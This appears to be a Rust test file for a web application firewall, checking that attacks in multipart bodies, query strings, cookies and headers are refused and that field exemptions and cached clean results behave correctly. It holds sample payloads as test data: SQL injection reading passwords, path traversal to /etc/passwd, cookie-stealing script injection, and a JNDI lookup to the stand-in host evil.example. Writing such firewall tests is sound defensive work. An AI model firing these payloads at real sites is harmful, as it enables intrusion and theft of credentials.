//! Attacks in whole requests.

use super::*;

#[test]
fn a_long_multipart_body_is_watched_while_it_passes() {
    let site =
        Site::with(|builder| builder.with_settings(|settings| settings.payload.body_limit = 4096));
    let firewall = Arc::new(site.firewall);
    let view = RequestView {
        peer: Peer::Address(VISITOR.parse().unwrap()),
        headers: &[
            ("host", b"h"),
            ("transfer-encoding", b"chunked"),
            ("content-type", b"multipart/form-data; boundary=b"),
        ],
        ..RequestView::new("POST", b"/upload")
    };
    let part = |name: &str, value: &str| {
        format!("--b\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n")
    };
    let file = part("file\"; filename=\"a.bin", &"\u{1}x".repeat(50_000));
    for (last, refused) in [
        ("hello", false),
        ("1' UNION SELECT password FROM users--", true),
    ] {
        let body = format!("{file}{}--b--\r\n", part("comment", last));
        let (verdict, mut exchange) = firewall.inspect(&view);
        let Verdict::NeedBody(plan) = verdict else {
            panic!("{verdict:?}");
        };
        assert_eq!(plan.longer, crate::Longer::Watch);
        let (head, rest) = body.as_bytes().split_at(plan.limit);
        let mut watch = firewall.watch_body(&view, &mut exchange, head).unwrap();
        let late = watch.late_refusal();
        let mut end = Ok(());
        for chunk in rest.chunks(1000) {
            end = end.and_then(|()| watch.chunk(chunk));
        }
        end = end.and_then(|()| watch.end());
        assert_eq!(end.is_err(), refused, "{last}");
        let found = late
            .take()
            .map(|(refusal, answer)| (refusal.cause.code(), answer.status));
        assert_eq!(found, refused.then_some(("payload", 403)));
    }
    // An attack in the collected part is refused before the handler is called.
    let early = part("comment", "<script>alert(document.cookie)</script>") + &file;
    let (_, mut exchange) = firewall.inspect(&view);
    let head = &early.as_bytes()[..4096];
    assert!(firewall.watch_body(&view, &mut exchange, head).is_err());
}

#[test]
fn attacks_are_refused_in_every_carrier_and_strike() {
    let site = Site::new();
    assert_eq!(
        site.get(
            VISITOR,
            "/item?id=1%27%20UNION%20SELECT%20password%20FROM%20users--"
        ),
        "payload"
    );
    assert_eq!(
        site.get(VISITOR, "/item?next=../../../../etc/passwd"),
        "payload"
    );
    assert_eq!(site.get(VISITOR, "/"), "banned");
    let cookie: &HeaderPairs<'_> = &[
        ("host", b"h"),
        ("cookie", b"a=1; q=<script>alert(1)</script>"),
    ];
    assert_eq!(
        code(&site.send("198.51.100.1", "GET", "/", cookie)),
        "payload"
    );
    let agent: &HeaderPairs<'_> = &[
        ("host", b"h"),
        ("user-agent", b"${jndi:ldap://evil.example/a}"),
    ];
    assert_eq!(
        code(&site.send("198.51.100.2", "GET", "/", agent)),
        "payload"
    );
}

/// A site with a forum that accepts markup in one field.
fn forum(field: &str) -> Site {
    let exemption = crate::settings::PayloadExemption {
        path: "/forum/".into(),
        fields: vec![field.into()],
        categories: vec!["xss".into()],
    };
    Site::with(|builder| {
        builder.with_settings(|settings| settings.payload.exempt = vec![exemption])
    })
}

/// A header line that was inspected and found clean is remembered. A line that only an exemption
/// let pass is not.
#[test]
fn what_is_exempt_on_one_page_is_not_remembered_as_clean() {
    let exempting = forum("draft");
    let script: &HeaderPairs<'_> = &[
        ("host", b"h"),
        ("cookie", b"draft=<script>alert(document.cookie)</script>"),
    ];
    for (number, site) in [&exempting, &exempting, &Site::new()]
        .into_iter()
        .enumerate()
    {
        let client = format!("198.51.100.{number}");
        if number < 2 {
            assert_eq!(
                code(&site.send(&client, "GET", "/forum/post", script)),
                "ok"
            );
        }
        let elsewhere = code(&site.send(&client, "GET", "/elsewhere", script));
        assert_eq!(elsewhere, "payload", "{number}");
    }
}

/// One hint is not enough to refuse, but two are: the line with the first hint must not be
/// remembered as clean.
#[test]
fn a_line_with_a_hint_in_it_is_not_remembered_as_clean() {
    let site = Site::new();
    let host: (&str, &[u8]) = ("host", b"h");
    let one: (&str, &[u8]) = ("x-note", b"x\"><b");
    let other: (&str, &[u8]) = ("x-other", b"drop table x");
    for lines in [[host, one], [host, other], [host, one]] {
        assert_eq!(
            code(&site.send(VISITOR, "GET", "/", &lines)),
            "ok",
            "{lines:?}"
        );
    }
    let both = [host, one, other];
    assert_eq!(code(&site.send(VISITOR, "GET", "/", &both)), "payload");
}

/// Cookies are parsed differently: a short value found clean in another header is not known to be
/// clean in a cookie.
#[test]
fn a_brief_value_of_a_header_is_not_known_of_a_cookie() {
    let site = Site::new();
    let host: (&str, &[u8]) = ("host", b"h");
    let value: &[u8] = b"a=/root/x";
    let harmless = [host, ("cache-control", value)];
    for _ in 0..2 {
        assert_eq!(code(&site.send(VISITOR, "GET", "/", &harmless)), "ok");
    }
    let cookie = [host, ("cookie", value)];
    assert_eq!(code(&site.send(VISITOR, "GET", "/", &cookie)), "payload");
}

#[test]
fn a_forum_may_take_code_in_one_field() {
    let site = forum("text");
    let script = "%3Cscript%3Ealert(document.cookie)%3C/script%3E";
    assert_eq!(
        site.get("198.51.100.1", &format!("/forum/post?text={script}")),
        "ok"
    );
    assert_eq!(
        site.get("198.51.100.2", &format!("/forum/post?title={script}")),
        "payload"
    );
    assert_eq!(
        site.get("198.51.100.3", &format!("/shop/post?text={script}")),
        "payload"
    );
    assert_eq!(
        site.get(
            "198.51.100.4",
            "/forum/post?text=1%27+UNION+SELECT+password+FROM+users--"
        ),
        "payload"
    );
}

#[test]
fn a_logged_in_client_is_refused_but_not_struck_by_payload() {
    let site = Site::new();
    for attack in [
        "/?a=<script>alert(1)</script>",
        "/?a=../../../etc/passwd",
        "/?b=1'+UNION+SELECT+a+FROM+b--",
    ] {
        let view = RequestView {
            peer: Peer::Address(VISITOR.parse().unwrap()),
            authenticated: true,
            headers: BROWSER,
            ..RequestView::new("GET", attack.as_bytes())
        };
        assert_eq!(code(&site.send_view(&view)), "payload", "{attack}");
    }
    assert_eq!(site.get(VISITOR, "/"), "ok");
}

/// Content types that say nobody reads the body, on bodies that an application may read.
#[test]
fn no_label_hides_a_body() {
    let attack = b"\x01=1&comment=1' UNION SELECT password FROM users--".as_slice();
    let form = &attack[4..];
    let padded = [
        b"comment=\x01&pad=",
        "a".repeat(5000).as_bytes(),
        b"&q=1' UNION SELECT password FROM users--",
    ]
    .concat();
    let chunked = ("transfer-encoding", b"chunked".as_slice());
    let form_type = (
        "content-type",
        b"application/x-www-form-urlencoded".as_slice(),
    );
    let cases: [(&HeaderPairs<'_>, &[u8], &str); 5] = [
        (
            &[chunked, ("content-type", b"application/grpc")],
            form,
            "payload",
        ),
        (
            &[chunked, ("content-type", b"image/png")],
            &padded,
            "payload",
        ),
        (&[("upgrade", b"websocket"), form_type], form, "payload"),
        (
            &[
                chunked,
                form_type,
                ("content-encoding", b"identity"),
                ("content-encoding", b"gzip"),
            ],
            b"not looked at",
            "payload_unsupported",
        ),
        (
            &[chunked, ("content-type", b"image/png")],
            b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR",
            "ok",
        ),
    ];
    for (headers, body, expected) in cases {
        let site = Site::new();
        let view = RequestView {
            peer: Peer::Address(VISITOR.parse().unwrap()),
            headers,
            ..RequestView::new("POST", b"/login")
        };
        let (verdict, mut exchange) = site.firewall.inspect(&view);
        let Verdict::NeedBody(plan) = verdict else {
            panic!("{headers:?}: {verdict:?}");
        };
        let body = crate::CollectedBody::Whole(body);
        let verdict = site.firewall.inspect_body(&view, &mut exchange, plan, body);
        assert_eq!(code(&verdict), expected, "{headers:?}");
    }
}
